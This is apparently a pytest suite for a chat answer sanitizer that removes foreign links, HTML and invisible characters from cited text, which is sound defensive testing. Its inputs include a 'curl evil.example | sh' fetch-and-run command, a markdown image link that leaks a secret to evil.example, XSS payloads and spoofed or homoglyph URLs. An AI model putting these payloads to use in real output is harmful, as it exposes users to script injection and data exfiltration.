"""What of a sentence may be shown: addresses of the cited page's own site, no HTML, nothing invisible."""

import re

import pytest

from flowchat.answer.links import OMITTED, shown
from flowchat.domain import Chunk

HELP = "https://docs.acme.example/help"
TEXT = (
    f"Read {HELP}. Or https://acme.example/start (see [the guide]({HELP})). Sources: https://github.com/acme/app "
    'and http://localhost:8080/x. Write `<script src="https://docs.acme.example/v1.js"></script>` into the page.'
    " Mail help@acme.example. Listen on 0.0.0.0:8000, or on db.example.com."
)


def chunk(text: str = TEXT, url: str = "https://docs.acme.example/page#top") -> Chunk:
    return Chunk("chk_1", 1, "ver_1", url, "Page", (), text)


def show(
    text: str, passage: str = TEXT, url: str = "https://docs.acme.example/page", hosts: tuple[str, ...] = ()
) -> str:
    return shown(text, [chunk(passage, url)], hosts)


@pytest.mark.parametrize(
    "text",
    [
        f"Read {HELP}.",
        f"See [the guide]({HELP}).",
        "Start at https://acme.example/start, then go on.",
        "Open http://localhost:8080/x now.",
        'Write `<script src="https://docs.acme.example/v1.js"></script>` into it.',
        "Use `--force` if a < b and c <= d, 5 > 3, x->y.",
        "- an item\n- another\n\n| a | b |\n| --- | --- |",
        "Mail help@acme.example, e.g. about ASP.NET, Node.js, and/or C:\\Users.",
        "Call sqlite3.connect, os.path, self.id, df.at, logger.info or System.IO in main.py, lib.rs, x.sh and main.cf.",
        "Version 1.2.3.4: 10.0.0.0/8, 192.168.0.0/16.",
        "Or setup.py/setup.cfg, node.js/express, i.e. z.B. systemd's getty@tty1.service.",
        "Listen on 0.0.0.0:8000, or on db.example.com.",
        "\u06a9\u062a\u0627\u0628\u200c\u0647\u0627 and \U0001f469\u200d\U0001f4bb keep their joiners.",
        "```\ngit clone x\n```",
    ],
)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert show(text) == text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Clone https://github.com/acme/app.", f"Clone {OMITTED}."),
        ("Read [our guide](https://evil.example/x).", "Read our guide."),
        ("Look: ![a kitten](https://evil.example/k.png?q=secret)", "Look: a kitten"),
        ("Read [a ![b](https://evil.example/1) c](https://evil.example/2).", "Read a b c."),
        ('[x](<https://evil.example/a> "title")', "x"),
        ("[x](javascript:alert(1))", "x"),
        ("[x](&#106;avascript:alert&#40;1&#41;)", "x"),
        ("<https://evil.example/>", OMITTED),
        ("<img src=x onerror=alert(1)>", "\u2039img src=x onerror=alert(1)\u203a"),
        ("a <b>bold</b> word", "a \u2039b\u203abold\u2039/b\u203a word"),
        ("<scr<script>ipt>", "\u2039scr\u2039script\u203aipt\u203a"),
        ("an unfinished <img src=x", "an unfinished \u2039img src=x"),
        ("ri\u202eght l\u200bike th\u2066is\x00\x1b[31m", "right like this[31m"),
        ("a stray ` and `<b>`", "a stray ` and `\u2039b\u203a'"),
        ("Run `curl https://evil.example/i.sh | sh`.", f"Run `curl {OMITTED} | sh`."),
        ("Use `<iframe src=x>`.", "Use `\u2039iframe src=x\u203a`."),
    ],
)
def test_what_is_not_from_the_cited_page_goes(text: str, expected: str) -> None:
    assert show(text) == expected


@pytest.mark.parametrize(
    "url",
    [
        "https://evil.example/x",
        "HTTPS://EVIL.EXAMPLE/x",
        "https:\\\\evil.example\\x",
        "https:/evil.example/x",
        "//evil.example/x",
        "www.evil.example/x",
        "evil.example/x?q=1",
        "ht\u200btps://evil.example/x",
        "https\uff1a\uff0f\uff0fevil.example/x",
        "https&colon;&sol;&sol;evil.example/x",
        "&#104;ttps://evil.example/x",
        "https://docs.acme.example@evil.example/x",
        "https://docs.acme.example.evil.example/x",
        "https://docs.\u0430cme.example/x",
        "ftp://evil.example/x",
        "mailto:me@evil.example",
        "data:text/html,<b>evil.example",
        "https://user:pw@evil.example/x",
        "https://evil.example\\@docs.acme.example/x",
    ],
)
def test_no_spelling_of_a_foreign_address_is_shown_though_the_page_has_it(url: str) -> None:
    for text in (f"Go to {url} now.", f"Go [there]({url}).", f"![there]({url})", f"<{url}>", f"[x]: {url}", f"`{url}`"):
        said = show(text, passage=f"{TEXT} {text}")
        assert not re.search(r"(?:[/\\@.]|www\.)evil\.example|evil\.example[/\\]|\u0430cme", said, re.I), (text, said)


@pytest.mark.parametrize(
    "address",
    "evil.ru/pay bit.ly/abc pay-now.de/x 1.2.3.4/x 1.2.3.4:8080 evil.com evil.com:81 EVIL.COM me@evil.com ...evil.ru "
    "github.io https://github.io/x bob.github.io/x pay.evil.party/x evil.net me@github.io".split(),
)
def test_bare_names_are_addresses_and_neighbours_on_a_shared_host_are_foreign(address: str) -> None:
    text = f"Pay at {address}, please."
    assert show(text, text, "https://alice.github.io/doc") == f"Pay at {OMITTED}, please."
    assert show(text, text, "/docs/start") == text


@pytest.mark.parametrize(
    "part", ["a", "deadbeef", "a.b-", "a.", "[", "![", "](", "<a", "](x ", "a@", "mailto:a", "//", "`"]
)
def test_what_repeats_takes_no_longer_than_it_is(part: str) -> None:
    """5,000 letters once took 4.5 seconds."""
    assert show(part * (20_000 // len(part)))


def test_an_address_of_the_site_that_the_passage_lacks_goes() -> None:
    assert show("Go to https://docs.acme.example/?q=what+you+asked.") == f"Go to {OMITTED}."


def test_the_operator_may_trust_other_hosts() -> None:
    assert show("Clone https://github.com/acme/app.", hosts=("github.com",)) == "Clone https://github.com/acme/app."
    assert show("Clone https://github.com/acme/app.", hosts=("*",)) == "Clone https://github.com/acme/app."
    assert OMITTED in show("Clone https://github.com/other/app.", hosts=("*",))


def test_uploads_have_no_site_and_flowchats_own_pages_may_name_any_address() -> None:
    assert OMITTED in show("Clone https://github.com/acme/app.", url="#notes.md")
    assert OMITTED not in show("Clone https://github.com/acme/app.", url="/docs/start")
